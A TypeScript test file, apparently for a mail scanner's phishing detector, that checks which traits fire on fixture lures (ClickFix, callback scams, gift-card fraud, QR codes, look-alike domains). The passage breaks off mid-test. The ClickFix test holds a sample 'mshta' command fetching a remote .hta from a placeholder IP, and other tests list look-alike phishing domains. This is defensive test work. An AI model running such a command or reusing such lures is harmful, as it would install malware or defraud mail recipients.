import { expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { defaults } from "../config/load";
import { scan, type Engine } from "../engine/scan";
import { parseMessageSync } from "../message/parse";
import { builtinDb } from "../ruledb/builtin";
import { loadRuleDb } from "../ruledb/match";
import { createPhishingCheck, hostIn, phishingSymbols } from "./phishing";
import { createQrCheck } from "./qr";
import { foldLookalikes, imitatesOwn, lookalikeOf, memo, mixedScript, domainShown, skeleton } from "./phishing-domains";
import { parsed } from "../testing/parsed";
import { intRng } from "../testing/rng";
import { BRANDS, FORM_SERVICES } from "./phishing-data";

const FIX = join(import.meta.dir, "../../fixtures/messages/phishing");
const raw = (f: string) => new Uint8Array(readFileSync(join(FIX, f)));
const symbols = (f: string) => [...phishingSymbols(parseMessageSync(raw(f), defaults().scan), ["user@example.com"])].sort();
const engine: Engine = { config: { ...defaults(), bayes: { ...defaults().bayes, enabled: false } }, db: loadRuleDb(builtinDb()), checks: [createPhishingCheck(), createQrCheck()] };
const hits = async (f: string) => {
  const r = await scan(engine, { id: f, envelope: { rcpt: ["user@example.com"] }, raw: raw(f) });
  return { names: r.hits.map((h) => h.name), score: r.score, status: r.status };
};

test.each([
  ["brand-display-name.eml", ["FROM_BRAND_IMPERSONATION", "URI_SHORTENED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["lookalike-domain.eml", ["FROM_LOOKALIKE_BRAND", "URI_LOOKALIKE_BRAND"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["idn-homograph.eml", ["FROM_BRAND_IMPERSONATION", "FROM_IDN_MIXED_SCRIPT", "FROM_LOOKALIKE_BRAND", "URI_IDN_MIXED_SCRIPT", "URI_LOOKALIKE_BRAND", "URI_PUNYCODE"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["html-attachment.eml", ["ATTACH_HTML", "ATTACH_HTML_FORM", "ATTACH_HTML_REDIRECT", "ATTACH_HTML_SCRIPT"], ["PHISH_HTML_ATTACHMENT"]],
  ["link-tricks.eml", ["FROM_NAME_INTERNAL_ROLE", "URI_DATA_HREF", "URI_FORM_SERVICE", "URI_FREE_HOSTED", "URI_IP_HOST", "URI_TEXT_BRAND_MISMATCH", "URI_TEXT_DOMAIN_MISMATCH"], ["PHISH_WORDS_BAD_LINK"]],
  ["replyto-freemail-invoice.eml", ["FREEMAIL_REPLYTO_OTHER", "REPLYTO_FREEMAIL"], ["PHISH_INVOICE_REPLYTO"]],
  // A supplier's bank "change" whose replies go to a cousin of the supplier's own domain (nordvik-suppiy.com).
  ["replyto-lookalike-invoice.eml", ["REPLYTO_LOOKALIKE"], ["PHISH_BANK_CHANGE_DIVERTED", "PHISH_INVOICE_SENDER_LIE"]],
  ["qr-code.eml", ["FROM_BRAND_IMPERSONATION"], ["QR_CODE_LURE", "PHISH_QR_LURE", "PHISH_WORDS_SENDER_LIE"]],
  // The QR codes themselves read (checks/qr.ts): the only sign in the text is a picture.
  ["qr-image.eml", ["BODY_IMAGE_ONLY"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  ["qr-image-jpeg.eml", ["BODY_IMAGE_ONLY"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  ["exec-freemail.eml", ["FROM_EXEC_FREEMAIL", "FROM_FREEMAIL"], ["PHISH_EXEC_PAYMENT", "BEC_BANK_DETAILS_CHANGED"]],
  ["image-only.eml", ["BODY_IMAGE_ONLY", "FROM_BRAND_IMPERSONATION", "URI_LOOKALIKE_BRAND"], ["PHISH_IMAGE_SENDER_LIE"]],
  ["rtlo-attachment.eml", ["ATTACH_BIDI_NAME"], ["ATTACH_BIDI_NAME", "ATTACH_EXECUTABLE"]],
  ["disk-image.eml", ["ATTACH_DISK_IMAGE", "FROM_BRAND_IMPERSONATION"], ["ATTACH_DISK_IMAGE"]],
  ["archive-password.eml", ["ATTACH_ARCHIVE"], ["ATTACH_ARCHIVE_PASSWORD"]],
  ["callback-phish.eml", ["FROM_BRAND_IMPERSONATION", "FROM_FREEMAIL"], ["CALLBACK_PHISH", "CALLBACK_PHISH_SENDER_LIE"]],
  ["lookalike-recipient.eml", ["FROM_LOOKALIKE_RCPT", "URI_LOOKALIKE_RCPT"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["gift-card-bec.eml", ["FROM_EXEC_FREEMAIL", "FROM_FREEMAIL"], ["BEC_GIFT_CARD_REQUEST", "PHISH_GIFT_CARD_BEC"]],
  // The same in French: a "Directeur général" on a free mailbox, Google Play cards, the codes photographed.
  ["fr-cartes-cadeaux.eml", ["FROM_EXEC_FREEMAIL", "FROM_FREEMAIL"], ["BEC_GIFT_CARD_REQUEST", "PHISH_GIFT_CARD_BEC"]],
  // A German "PayPal" receipt for a renewal never made, with a Berlin number to call.
  ["de-callback-zahlung.eml", ["FROM_BRAND_IMPERSONATION", "FROM_FREEMAIL"], ["CALLBACK_PHISH", "CALLBACK_PHISH_SENDER_LIE"]],
  // A Russian "Sberbank" debit never made, from a free mailbox, the number on the next line.
  ["ru-callback-spisanie.eml", ["FROM_BRAND_IMPERSONATION", "FROM_FREEMAIL"], ["CALLBACK_PHISH", "CALLBACK_PHISH_SENDER_LIE"]],
  // A Korean "overseas payment approved" notice (EUC-KR) in a card issuer's name, from a free mailbox.
  ["ko-haeoe-gyeolje.eml", ["FROM_BRAND_IMPERSONATION", "FROM_FREEMAIL"], ["CALLBACK_PHISH", "CALLBACK_PHISH_SENDER_LIE"]],
  // A "photographer" on a free mailbox: images used without permission, legal action, "the images" on Firebase storage.
  ["copyright-claim.eml", ["FROM_FREEMAIL", "URI_FREE_HOSTED"], ["COPYRIGHT_CLAIM_LURE", "PHISH_COPYRIGHT_LINK"]],
  // CEO fraud's first letter: "a quick task", in a meeting, no calls, from a "CEO" on a free mailbox.
  ["bec-task-opener.eml", ["FROM_EXEC_FREEMAIL", "FROM_FREEMAIL"], ["BEC_TASK_OPENER", "PHISH_BEC_OPENER"]],
  ["payroll-diversion.eml", ["FROM_FREEMAIL"], ["BEC_PAYROLL_CHANGE", "PHISH_PAYROLL_DIVERSION"]],
  // Subject, name and text in bold sans-serif letters (message/styled.ts): the body rules read the words.
  // A PDF whose one link goes to free hosting (message/pdf.ts): the mail's own text has no link at all.
  ["pdf-link-lure.eml", ["ATTACH_PDF_BAD_LINK", "ATTACH_PDF_LINK", "URI_FREE_HOSTED"], ["PHISH_PDF_ATTACHMENT"]],
  // The link's host is google.com; its destination (message/redirects.ts) is free hosting.
  ["open-redirect.eml", ["URI_FREE_HOSTED", "URI_OPEN_REDIRECT"], ["PHISH_WORDS_BAD_LINK"]],
  // Through Google's AMP cache to free hosting; through a Campaign Manager ad click (read, no sign) to a look-alike.
  ["amp-cache-redirect.eml", ["URI_FREE_HOSTED", "URI_OPEN_REDIRECT"], ["PHISH_WORDS_BAD_LINK"]],
  ["ad-click-redirect.eml", ["URI_LOOKALIKE_BRAND"], ["PHISH_WORDS_BAD_LINK"]],
  // The older auction-site lure, still sent: "your account information needs to be updated", "failure to update your records will result in account suspension", the brand's domain spelt in front of another.
  ["records-update-suspension.eml", ["URI_BRAND_AS_SUBDOMAIN"], ["PHISH_VERIFY_ACCOUNT", "PHISH_SUSPENDED", "PHISH_WORDS_BAD_LINK"]],
  // A link written with backslashes (https:\\host\\path), which browsers open as slashes (message/html.ts browserUrl).
  ["backslash-link.eml", ["FROM_NAME_INTERNAL_ROLE", "URI_FREE_HOSTED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  // A "scanned invoice" opened through Windows Search over the sender's WebDAV share (search-ms:).
  ["search-ms-link.eml", ["URI_PROGRAM_LINK"], ["PHISH_PROGRAM_LINK_INVOICE"]],
  // A PDF whose one picture is a QR code (message/pdf-images.ts): no link in the mail or the PDF.
  ["pdf-qr-lure.eml", ["FROM_BRAND_IMPERSONATION"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  // A Word document and an Excel sheet whose one picture is a QR code (message/archive.ts keeps an Office document's pictures): nothing else in the mail.
  ["qr-docx.eml", ["FROM_NAME_INTERNAL_ROLE"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  ["qr-xlsx.eml", [], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  // A parcel "on hold" until a small fee is paid, through free hosting, from a name claiming the carrier.
  ["delivery-fee.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["DELIVERY_FEE_LURE", "PHISH_DELIVERY_FEE"]],
  // "Storage full, your photos will be deleted", from a name claiming the cloud service.
  ["storage-full.eml", ["FROM_BRAND_IMPERSONATION"], ["STORAGE_FULL_LURE", "PHISH_STORAGE_FULL"]],
  ["colleague-address-name.eml", ["FROM_FREEMAIL", "FROM_NAME_OTHER_DOMAIN", "FROM_NAME_RCPT_DOMAIN"], ["PHISH_INVOICE_SENDER_LIE"]],
  // "ClickFix": the mail tells the reader to open the Run dialog and paste; the attached page's button copies a PowerShell line.
  ["clickfix-body.eml", [], ["CLICKFIX_PASTE_RUN", "PHISH_CLICKFIX"]],
  ["clickfix-attachment.eml", ["ATTACH_HTML", "ATTACH_HTML_CLIPBOARD_COMMAND", "ATTACH_HTML_SCRIPT"], ["PHISH_HTML_ATTACHMENT"]],
  // A voicemail "player" that is an SVG whose script forwards the reader; a sign-in page sent as an octet stream named .htm.
  ["svg-voicemail.eml", ["ATTACH_HTML", "ATTACH_HTML_REDIRECT", "ATTACH_HTML_SCRIPT", "BODY_IMAGE_ONLY"], ["PHISH_HTML_ATTACHMENT"]],
  ["html-octet-stream.eml", ["ATTACH_HTML", "ATTACH_HTML_FORM"], ["PHISH_HTML_ATTACHMENT"]],
  // A sign-in page whose script posts the password to free hosting: the address is only in a script's string (message/page-files.ts).
  ["html-script-post.eml", ["ATTACH_HTML", "ATTACH_HTML_FORM", "ATTACH_HTML_SCRIPT", "URI_FREE_HOSTED"], ["PHISH_HTML_ATTACHMENT", "PHISH_WORDS_BAD_LINK"]],
  // A "secure document" that is one full-window frame of a remote page: no form or script of its own.
  ["html-frame-attachment.eml", ["ATTACH_HTML", "ATTACH_HTML_REDIRECT"], ["PHISH_HTML_ATTACHMENT"]],
  // A sign-in page saved as a web archive (.mht, typed message/rfc822 as Windows types it): its page is an attached page.
  ["mht-login-page.eml", ["ATTACH_HTML", "ATTACH_HTML_FORM"], ["PHISH_HTML_ATTACHMENT"]],
  // A brand's domain, then the recipient's, spelt in front of the domain that owns the host; the second link also carries the reader's address in base64 after "#".
  ["brand-as-subdomain.eml", ["FROM_BRAND_AS_SUBDOMAIN", "URI_BRAND_AS_SUBDOMAIN"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["rcpt-as-subdomain.eml", ["FROM_NAME_INTERNAL_ROLE", "URI_RCPT_ADDR_HIDDEN", "URI_RCPT_AS_SUBDOMAIN"], ["PHISH_WORDS_BAD_LINK"]],
  // A "guest message" to a hotel in Booking.com's name (2024-26), from a domain that is not Booking.com's.
  ["booking-guest-message.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["styled-letters.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["SUBJ_STYLED_LETTERS", "PHISH_VERIFY_ACCOUNT", "PHISH_SUSPENDED", "PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  // The reader's own help desk or HR claimed from outside (role-name.ts), with an MFA or a salary-letter lure and a plain link.
  ["helpdesk-mfa.eml", ["FROM_NAME_INTERNAL_ROLE"], ["PHISH_WORDS_SENDER_LIE"]],
  ["hr-salary-review.eml", ["FROM_NAME_INTERNAL_ROLE"], ["PHISH_WORDS_SENDER_LIE"]],
  // "Messages held in quarantine, release them", in Microsoft 365's name.
  ["quarantine-release.eml", ["FROM_BRAND_IMPERSONATION"], ["PHISH_WORDS_SENDER_LIE"]],
  // A wallet's recovery phrase asked for; an unpaid toll behind a shortener; a tax refund in HMRC's name.
  ["wallet-seed-phrase.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["CRYPTO_SEED_PHRASE_ASK", "PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  ["unpaid-toll.eml", ["URI_SHORTENED"], ["TOLL_FEE_LURE", "PHISH_TOLL_FEE"]],
  ["tax-refund.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  // Callback lures: the number disguised (letter O for zero), or an ordinary number with the charge denied outright.
  ["callback-disguised-number.eml", ["FROM_FREEMAIL"], ["PHONE_OBFUSCATED", "CALLBACK_PHISH"]],
  ["callback-local-number.eml", ["FROM_BRAND_IMPERSONATION"], ["CALLBACK_PHISH", "CALLBACK_PHISH_SENDER_LIE"]],
  // The lure's words spelt with Cyrillic look-alike letters: read as the Latin words (message/lookalike-letters.ts).
  ["mixed-script-words.eml", ["URI_FREE_HOSTED"], ["OBFU_MIXED_SCRIPT_WORD", "PHISH_VERIFY_ACCOUNT", "PHISH_WORDS_BAD_LINK"]],
  // Sextortion as sent since 2023: spyware named, Litecoin to a written-out wallet address, the video "sent to your contacts".
  ["sextortion-litecoin.eml", [], ["EXTORTION_BITCOIN"]],
  // The 2024 letter: the reader's street, "a picture of your house", bitcoin, "I will send them to all your contacts".
  ["sextortion-house.eml", [], ["EXTORTION_BITCOIN"]],
  // A shared-file lure forwarded as an attached message (.eml) whose From claims Microsoft 365.
  ["attached-eml-lure.eml", ["ATTACH_MESSAGE_SENDER_LIE", "URI_FREE_HOSTED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
  // QR codes drawn without a picture (message/text-qr.ts): a table of painted cells, lines of half blocks.
  ["qr-html-table.eml", ["FROM_NAME_INTERNAL_ROLE"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  ["qr-block-text.eml", ["FROM_NAME_INTERNAL_ROLE"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  // ... and rows of empty divs painted black or white (a "Microsoft 365" re-registration lure).
  ["qr-html-divs.eml", ["FROM_BRAND_IMPERSONATION"], ["QR_CODE_URL", "QR_URI_SUSPICIOUS", "PHISH_QR_CODE"]],
  // A streaming service's "payment declined" and Teams' "unread messages" in their names, linking to free hosting.
  ["payment-declined.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE", "PHISH_SENDER_LIE_BAD_LINK"]],
  ["teams-unread.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE", "PHISH_SENDER_LIE_BAD_LINK"]],
  // The sign-in form in the message itself: no link to judge.
  ["body-password-form.eml", ["FROM_NAME_INTERNAL_ROLE"], ["HTML_PASSWORD_FIELD", "PHISH_PASSWORD_FORM"]],
])("%s: the check sees %o; the rules combine them into %o", async (file, traits, metas) => {
  expect(symbols(file)).toEqual(traits);
  const r = await hits(file);
  expect(r.names).toEqual(expect.arrayContaining(metas));
});

test("a shop selling gift cards (buy, card code, scratch-off strip, \"send them the code\") is not gift-card fraud", async () => {
  const r = await hits("gift-card-shop.eml");
  expect(r.names.filter((n) => n.includes("GIFT_CARD"))).toEqual([]);
  expect(r.status).toBe("not_detected");
});

test("a brand's own mail (paypal.co.uk, links to paypal.com) raises none of the phishing traits or combinations", async () => {
  expect(symbols("brand-own-mail.eml")).toEqual([]);
  expect((await hits("brand-own-mail.eml")).names.filter((n) => n.startsWith("PHISH_"))).toEqual([]);
});

test("every phishing fixture scores at least probable spam with the shipped rules", async () => {
  // (archive-password.eml is left out: a locked archive with its password is one sign, which
  // some offices give by habit, so alone it stays under the threshold. So are helpdesk-mfa.eml
  // and hr-salary-review.eml, 2.5-2.7 here: a department's name from outside is weighed low,
  // as an outsourced help desk writes so honestly; their links' reputation decides.)
  for (const f of ["brand-display-name.eml", "lookalike-domain.eml", "lookalike-recipient.eml", "idn-homograph.eml", "html-attachment.eml", "link-tricks.eml", "replyto-freemail-invoice.eml", "qr-code.eml", "qr-image.eml", "qr-image-jpeg.eml", "image-only.eml", "exec-freemail.eml", "rtlo-attachment.eml", "disk-image.eml", "callback-phish.eml", "gift-card-bec.eml", "payroll-diversion.eml", "styled-letters.eml", "colleague-address-name.eml", "pdf-link-lure.eml", "open-redirect.eml", "delivery-fee.eml", "storage-full.eml", "pdf-qr-lure.eml", "clickfix-body.eml", "clickfix-attachment.eml", "mht-login-page.eml", "quarantine-release.eml", "wallet-seed-phrase.eml", "unpaid-toll.eml", "tax-refund.eml", "body-password-form.eml", "callback-disguised-number.eml", "callback-local-number.eml", "mixed-script-words.eml", "sextortion-litecoin.eml", "attached-eml-lure.eml", "qr-html-table.eml", "qr-block-text.eml", "payment-declined.eml", "teams-unread.eml", "meta-page-disabled.eml", "de-account-locked.eml", "fr-colis-frais.eml", "es-cuenta-bloqueada.eml", "ja-card-usage.eml", "paypal-invoice-callback.eml", "drive-share-callback.eml", "fr-cartes-cadeaux.eml", "de-callback-zahlung.eml", "qr-html-divs.eml", "pl-inpost-doplata.eml", "ru-callback-spisanie.eml", "ko-haeoe-gyeolje.eml", "copyright-claim.eml", "bec-task-opener.eml", "sextortion-house.eml", "closing-wire.eml"]) {
    expect({ f, status: (await hits(f)).status }).not.toEqual({ f, status: "not_detected" });
  }
});

test("an honest ticket whose QR code goes to the seller's own site is read, and stays far from spam", async () => {
  const r = await hits("qr-ticket.eml");
  expect(r.names).toEqual(expect.arrayContaining(["QR_CODE_IMAGE", "QR_CODE_URL"]));
  expect(r.names.filter((n) => n.startsWith("PHISH_") || n === "QR_URI_SUSPICIOUS")).toEqual([]);
  expect(r.status).toBe("not_detected");
  expect(r.score).toBeLessThan(2);
});

test("an honest receipt with a phone number and an amount is no callback lure; an archive without its password in the text is no locked archive", async () => {
  expect(symbols("callback-honest-receipt.eml")).toEqual([]);
  expect((await hits("callback-honest-receipt.eml")).names).not.toContain("CALLBACK_PHISH");
  const text = new TextDecoder().decode(raw("archive-password.eml")).replace("The password is 7731 - please open it today.", "Please sign it and send it back.");
  const r = await scan(engine, { id: "archive", envelope: { rcpt: ["user@example.com"] }, raw: new TextEncoder().encode(text) });
  expect(r.hits.map((h) => h.name)).not.toContain("ATTACH_ARCHIVE_PASSWORD");
  expect([...phishingSymbols(parseMessageSync(new TextEncoder().encode(text), defaults().scan))]).toEqual(["ATTACH_ARCHIVE"]);
});

test("ClickFix is neither a help desk's Run-dialog instructions nor a page that copies a coupon code or documents PowerShell", async () => {
  const mail = (body: string) => new TextEncoder().encode(`From: "IT Service Desk" <servicedesk@example.com>\nTo: user@example.com\nSubject: Mapping the scans folder\nDate: Fri, 04 Dec 2026 09:00:00 +0000\nMessage-ID: <it-1@example.com>\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n${body}\n`);
  const helpDesk = await scan(engine, { id: "it", envelope: { rcpt: ["user@example.com"] }, raw: mail("Hello,\n\nto open the scans folder, press Windows + R, type \\\\fileserver\\scans and press Enter.\n\nIT Service Desk") });
  expect(helpDesk.hits.map((h) => h.name).filter((n) => n.includes("CLICKFIX"))).toEqual([]);
  const page = (html: string) => [...phishingSymbols(parseMessageSync(new TextEncoder().encode(`From: a@example.com\nTo: user@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: text/html; name="page.html"\nContent-Disposition: attachment; filename="page.html"\n\n${html}\n--b--\n`), defaults().scan))];
  expect(page('<button onclick="navigator.clipboard.writeText(\'SAVE20\')">Copy your coupon code</button>')).not.toContain("ATTACH_HTML_CLIPBOARD_COMMAND");
  expect(page("<h1>Get-ChildItem in PowerShell</h1><pre>powershell -NoProfile -Command Get-ChildItem</pre>")).not.toContain("ATTACH_HTML_CLIPBOARD_COMMAND");
  expect(page('<script>document.execCommand("copy")</script><p>mshta http://198.51.100.7/x.hta</p>')).toContain("ATTACH_HTML_CLIPBOARD_COMMAND");
});

test("a bidirectional control anywhere in an attachment's name is named, an ordinary name is not", () => {
  const withName = (name: string) =>
    phishingSymbols(parseMessageSync(new TextEncoder().encode(`Content-Type: multipart/mixed; boundary=b\n\n--b\n\nhi\n--b\nContent-Type: application/pdf\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\n\nx\n--b--\n`), defaults().scan));
  for (const c of ["\u202e", "\u202d", "\u2066", "\u2069"]) expect(withName(`report${c}fdp.scr`).has("ATTACH_BIDI_NAME")).toBe(true);
  expect(withName("Rapport annuel 2026 – version finale.pdf").has("ATTACH_BIDI_NAME")).toBe(false);
});

test("look-alike domains: confusables, one edit, a brand word in a longer name; a brand's own and honest near names are not", () => {
  for (const d of ["paypa1.com", "rnicrosoft.com", "arnazon.co.uk", "paypal-secure-login.com", "micros0ft-support.net", "xn--pple-43d.com", "linkedln.com"]) expect({ d, brand: lookalikeOf(d)?.names[0] }).toMatchObject({ d, brand: expect.any(String) });
  for (const d of ["paypal.co.uk", "microsoft.com", "apply.com", "offices.com", "office-depot.com", "example.com", "amazonia.example"]) expect({ d, brand: lookalikeOf(d) }).toEqual({ d, brand: undefined });
  expect(mixedScript("xn--pple-43d.com")).toBe(true); // Cyrillic а + Latin pple
  expect(mixedScript("xn--80ak6aa92e.com")).toBe(false); // all Cyrillic: a real IDN, not a homograph
  expect(skeleton("rnicr0soft")).toBe("microsoft".replace(/i/g, "l"));
});

test("hostIn agrees with the naive suffix test (host === s or host ends with '.' + s) on random hosts", () => {
  const list = ["bit.ly", "t.co", "sites.google.com", "web.core.windows.net", "co", "a.b"];
  const naive = (h: string) => list.some((s) => h === s || h.endsWith(`.${s}`));
  const match = hostIn(list);
  const labels = ["bit", "ly", "t", "co", "sites", "google", "com", "web", "core", "windows", "net", "a", "b", "x", "", "tco", "xbit"];
  const rnd = intRng(5);
  for (let n = 0; n < 5000; n++) {
    const host = Array.from({ length: 1 + rnd(5) }, () => labels[rnd(labels.length)]).join(".");
    expect([host, match(host)]).toEqual([host, naive(host)]);
  }
  expect(match("evil-bit.ly")).toBe(false);
  expect(match("x.bit.ly")).toBe(true);
});

test("memo: computes each key once, and gives the function's answers again after it forgets (past 4096 keys)", () => {
  let calls = 0;
  const f = memo((k: string) => (calls++, k.length % 3 === 0 ? undefined : k.toUpperCase()));
  expect([f("ab"), f("abc"), f("ab"), f("abc")]).toEqual(["AB", undefined, "AB", undefined]);
  expect(calls).toBe(2);
  for (let i = 0; i < 5000; i++) expect(f(`k${i}`)).toBe(`k${i}`.length % 3 === 0 ? undefined : `K${i}`);
  expect(f("ab")).toBe("AB");
  expect(lookalikeOf("paypa1.com")?.labels[0]).toBe("paypal");
  expect(lookalikeOf("paypa1.com")?.labels[0]).toBe("paypal");
});

const withUris = (uris: string[], links: { href: string; text: string }[] = []) => ({ ...parsed({ uris }), links });

test("URI_FORM_SERVICE: a host/path entry is that host with the path as a prefix, a plain entry the host or a subdomain (as host + path against every entry)", () => {
  // The spec, written as the list reads: host + path equal to an entry, starting with it (a
  // host/path one) or with it and "/" (a plain one), or the host under it.
  const spec = (u: URL) => {
    const hostPath = u.hostname + u.pathname;
    return FORM_SERVICES.some((s) => hostPath === s || hostPath.startsWith(s.includes("/") ? s : `${s}/`) || u.hostname.endsWith(`.${s}`));
  };
  const labels = ["docs", "google", "com", "forms", "form", "jotform", "eu", "x", "gle", "typeform", "notjotform"];
  const paths = ["/", "/forms", "/forms/d/e/1", "/formsx", "/Forms", "/document/d/1", "/x/forms", ""];
  const rnd = intRng(17);
  for (let n = 0; n < 3000; n++) {
    const host = Array.from({ length: 1 + rnd(4) }, () => labels[rnd(labels.length)]).join(".");
    const url = `https://${rnd(4) ? host : host.toUpperCase()}${paths[rnd(paths.length)]}`;
    expect([url, phishingSymbols(withUris([url])).has("URI_FORM_SERVICE")]).toEqual([url, spec(new URL(url))]);
  }
  expect(phishingSymbols(withUris(["https://docs.google.com/forms/d/e/1/viewform"])).has("URI_FORM_SERVICE")).toBe(true);
  expect(phishingSymbols(withUris(["https://docs.google.com/document/d/1"])).has("URI_FORM_SERVICE")).toBe(false);
});

test("pages on application hosts, object stores, IPFS gateways and Google Translate's proxy are free-hosted; the hosts' own sites and look-alike names are not", () => {
  const free = (u: string) => phishingSymbols(withUris([u])).has("URI_FREE_HOSTED");
  for (const u of ["https://secure-login-4821.onrender.com/", "https://acct-verify.fly.dev/x", "https://firebasestorage.googleapis.com/v0/b/x.appspot.com/o/inv.html", "https://bafybeigd.ipfs.w3s.link/index.html", "https://www-paypal-com.translate.goog/signin?_x_tr_sl=auto", "https://x.nyc3.digitaloceanspaces.com/login.html"])
    expect({ u, free: free(u) }).toEqual({ u, free: true });
  for (const u of ["https://fly.io/docs/", "https://render.com/", "https://translate.google.com/", "https://notonrender.com/", "https://www.example.com/"])
    expect({ u, free: free(u) }).toEqual({ u, free: false });
});

test("page builders (Adobe Express, Sway, Gamma), dynamic DNS and tunnels are free-hosted; transfer services are file sharing, new form builders forms; Adobe's and Microsoft's own sites are not", () => {
  const traits = (u: string) => [...phishingSymbols(withUris([u]))].filter((x) => ["URI_FREE_HOSTED", "URI_FILE_SHARE", "URI_FORM_SERVICE", "URI_SHORTENED"].includes(x));
  for (const u of ["https://new.express.adobe.com/webpage/Ab12Cd", "https://sway.cloud.microsoft/Xy12Ab34", "https://sway.office.com/Xy12Ab34", "https://invoice-0412.gamma.site/", "https://files-portal.duckdns.org/login", "https://abc-12-3.cprapid.com/"])
    expect({ u, traits: traits(u) }).toEqual({ u, traits: ["URI_FREE_HOSTED"] });
  for (const u of ["https://www.swisstransfer.com/d/1234", "https://fromsmash.com/Invoice-0412", "https://www.docdroid.net/AbC/invoice.pdf"]) expect({ u, traits: traits(u) }).toEqual({ u, traits: ["URI_FILE_SHARE"] });
  expect(traits("https://tally.so/r/w2Ab3c")).toEqual(["URI_FORM_SERVICE"]);
  expect(traits("https://surl.li/abcdef")).toEqual(["URI_SHORTENED"]);
  for (const u of ["https://www.adobe.com/express/", "https://www.microsoft.com/en-us/microsoft-365/sway", "https://smash.gg/tournament/x"]) expect({ u, traits: traits(u) }).toEqual({ u, traits: [] });
});

test("links judged are the first 200 of the text's URIs followed by the hrefs, and a host judged once reads the same in the next message", () => {
  const many = (n: number) => Array.from({ length: n }, (_, i) => `http://site${i}.example.com/`);
  const link = [{ href: "https://bit.ly/x", text: "click" }];
  expect(phishingSymbols(withUris(many(199), link)).has("URI_SHORTENED")).toBe(true);
  expect(phishingSymbols(withUris(many(200), link)).has("URI_SHORTENED")).toBe(false);
  for (let i = 0; i < 3; i++) expect([...phishingSymbols(withUris(["http://paypa1.com/x", "http://1.2.3.4/", "https://bit.ly/y", "https://xn--pple-43d.com/"]))]).toEqual(["URI_LOOKALIKE_BRAND", "URI_IP_HOST", "URI_SHORTENED", "URI_PUNYCODE", "URI_IDN_MIXED_SCRIPT"]);
});

test("every name of every brand in a display name is seen (the one regex of all names misses none), inside a longer word only a Japanese or Chinese one", () => {
  for (const b of BRANDS)
    for (const n of b.names) {
      const from = (name: string) => phishingSymbols(parsed({ headers: { From: `"${name}" <alerts@example.org>` } })).has("FROM_BRAND_IMPERSONATION");
      expect({ n, seen: from(`${n.toUpperCase()} Support`) }).toEqual({ n, seen: true });
      expect({ n, seen: from(`Team ${n.replace(/ /g, "")}`) }).toEqual({ n, seen: true });
      // Inside a longer word: a Latin name is another word; Japanese and Chinese put no space between words.
      expect({ n, seen: from(`x${n}x`) }).toEqual({ n, seen: /[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}]/u.test(n) });
    }
});

test("the brands added for Europe, Latin America and Japan: their own sending domains are no lie, the same names elsewhere are", () => {
  const from = (f: string) => [...phishingSymbols(parsed({ headers: { From: f } }))].filter((n) => n.startsWith("FROM_"));
  const own = ['"DGFiP" <ne-pas-repondre@dgfip.finances.gouv.fr>', '"La Poste" <ne-pas-repondre@notification.laposte.fr>', '"Ameli" <noreply@info.ameli.fr>', '"ING Bank" <info@ing.nl>', '"Poste Italiane" <noreply@poste.it>', '"Itaú" <comunicado@itau-unibanco.com.br>', '"Сбербанк" <noreply@sber.ru>', '"楽天カード" <info@mail.rakuten-card.co.jp>', '"エポスカード" <info@0101.co.jp>', '"ヤマト運輸" <mail@kuronekoyamato.co.jp>', '"JCB" <info@qa.jcb.co.jp>', '"えきねっと" <info@jreast.co.jp>'];
  for (const f of own) expect({ f, lies: from(f) }).toEqual({ f, lies: [] });
  expect(from('"Ameli Schmidt" <ameli.schmidt@mail.example>')).toEqual([]); // a first name
  for (const f of ['"La Poste" <suivi@colis-info.example>', '"Сбербанк" <noreply@bank-online.example>', '"ヤマト運輸" <mail@delivery-notice.example>']) expect({ f, lies: from(f) }).toEqual({ f, lies: ["FROM_BRAND_IMPERSONATION"] });
});

test("a brand name written with invisible characters in the display name is still the brand (a reader sees \"PayPal\")", () => {
  const from = (name: string) => phishingSymbols(parsed({ headers: { From: `"${name}" <alerts@example.org>` } })).has("FROM_BRAND_IMPERSONATION");
  expect(from("Pay\u200bPal Se\u00adcurity")).toBe(true);
